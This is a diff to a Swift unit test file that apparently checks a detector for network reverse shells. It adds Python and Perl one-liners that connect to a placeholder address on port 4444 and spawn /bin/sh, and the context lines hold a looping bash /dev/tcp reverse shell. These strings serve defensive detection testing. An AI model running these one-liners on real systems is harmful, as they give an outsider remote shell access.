@@ -193,6 +193,11 @@ final class AccessChecksTests: XCTestCase {
         XCTAssertEqual(launches("timeout 1 bash -c '</dev/tcp/localhost/80' && echo up"), [])
         XCTAssertEqual(launches("exec 3<>/dev/tcp/example.org/80; echo -e 'GET / HTTP/1.0' >&3; cat <&3"), [])
         XCTAssertEqual(launches("bash -i"), [], "an interactive shell without a socket")
+        // Interpreter one-liners that connect a socket and give it a shell.
+        XCTAssertEqual(launches(#"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' &"#).count, 1)
+        XCTAssertEqual(launches(#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("192.0.2.7")));open(STDIN,">&S");exec("/bin/sh -i");'"#).count, 1)
+        XCTAssertEqual(launches(#"python3 -c 'import socket; print(socket.gethostname())'"#), [], "a socket without a shell")
+        XCTAssertEqual(launches(#"python3 -c 'import os; os.system("/bin/sh /etc/firstboot.sh")'"#), [], "a shell without a socket")
         // Commands after shell keywords.
         XCTAssertEqual(launches("(while true; do bash -i >& /dev/tcp/192.0.2.7/8443 0>&1; sleep 300; done) &"),
                        [.networkShell("bash -i >& /dev/tcp/192.0.2.7/8443 0>&1")])
